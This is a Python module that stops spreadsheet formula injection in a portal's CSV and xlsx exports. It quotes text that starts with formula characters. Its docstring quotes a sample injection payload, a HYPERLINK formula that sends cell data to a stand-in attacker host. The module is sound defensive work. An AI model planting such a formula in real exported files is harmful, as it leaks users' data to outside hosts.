"""The one guard for every spreadsheet cell the portal writes (xlsx and CSV): text stays text.

Text that begins with = + - @ or a tab or CR is what Excel and LibreOffice run as a formula
(OWASP "CSV injection"); imported text such as a goal's wording can hold anything, e.g.
=HYPERLINK("http://evil.example/?d="&A1,"click"). Numbers stay numbers.

- CSV has no types, so such text gets a leading ' (which Excel shows as text). Text that already
  begins with ' gets one too, so that the portal's own import strips exactly one and reads back
  what was written (`csv_unquote`).
- xlsx has types: such text is written as a string cell, never a formula, and marked with Excel's
  quote prefix so that editing the cell keeps it text.
"""
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def csv_cell(value) -> str:
    """A value as a CSV field that no spreadsheet runs as a formula."""
    if isinstance(value, (int, float, Decimal)) and not isinstance(value, bool):
        return str(value)
    text = "" if value is None else str(value)
    return "'" + text if text.startswith((*FORMULA_STARTS, "'")) else text


def csv_unquote(text: str) -> str:
    """Undo csv_cell's ' on a field read back from a CSV file."""
    return text[1:] if text[:1] == "'" and text[1:2] in (*FORMULA_STARTS, "'") else text


def guard_cell(cell):
    """An openpyxl cell whose value is set (and styled): text is a string cell, never a formula.

    Call it after the style is assigned, since assigning a whole style resets the quote prefix.
    """
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if looks_like_formula(cell.value):
            cell.quotePrefix = True
    return cell


def write_cell(cell, value):
    """Set an openpyxl cell's value through the guard."""
    cell.value = value
    return guard_cell(cell)
